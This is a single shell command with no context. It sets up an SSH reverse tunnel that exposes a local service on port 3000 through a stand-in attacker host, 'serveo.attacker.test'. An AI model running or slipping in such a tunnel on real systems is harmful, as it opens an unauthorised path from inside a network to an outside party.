ssh -R 80:localhost:3000 serveo.attacker.test
